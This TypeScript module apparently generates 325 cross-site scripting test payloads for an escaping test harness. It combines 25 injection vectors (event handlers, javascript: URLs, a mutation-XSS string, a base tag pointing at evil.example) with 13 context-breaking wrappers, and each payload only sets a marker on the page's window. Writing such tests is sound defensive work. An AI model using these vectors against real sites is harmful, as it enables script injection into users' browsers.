/** Property that a payload sets on the page's window when it runs. */
export const HIT = 'payloadRan';

const CODE = `window.${HIT}=1`;

/** Texts that become script where they are not escaped. */
const VECTORS: readonly string[] = [
  `<script>${CODE}</script>`,
  `<ScRiPt>${CODE}</sCrIpT >`,
  `<img src=x onerror=${CODE}>`,
  `<svg/onload=${CODE}>`,
  `<body onload=${CODE}>`,
  `<iframe srcdoc="<script>parent.${HIT}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${HIT}=1"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<a href="javascript:${CODE}" autofocus onfocus=${CODE}>x</a>`,
  `<input autofocus onfocus=${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<marquee onstart=${CODE}>`,
  `<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=${CODE}></style>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><script href="data:text/javascript,${CODE}"/></svg>`,
  `<base href="//evil.example/"><script src=x.js></script>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  `<link rel=stylesheet href="data:text/css,*{background:red}">`,
  `<style>@import 'javascript:${CODE}';</style>`,
  `<form action="javascript:${CODE}"><button autofocus>x</button></form>`,
  `<template><script>${CODE}</script></template>`,
  `javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
];

/** Prefixes and suffixes that close the surrounding context. */
const PLACES: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['">', '<"'],
  ["'>", "<'"],
  ['</title>', '<title>'],
  ['</textarea>', '<textarea>'],
  ['</script>', '<script>'],
  ['</style></noscript></template>', ''],
  ['-->', '<!--'],
  [']]>', '<![CDATA['],
  ['\\u003c/script\\u003e</ScRipt >', '//'],
  ['"}]);', '//'],
  ['${', '}'],
  ['{{constructor.constructor("', '")()}}'],
];

/** 325 payloads: each vector in each context. */
export const SCRIPT_PAYLOADS: readonly string[] = VECTORS.flatMap((vector) =>
  PLACES.map(([before, after]) => `${before}${vector}${after}`),
);
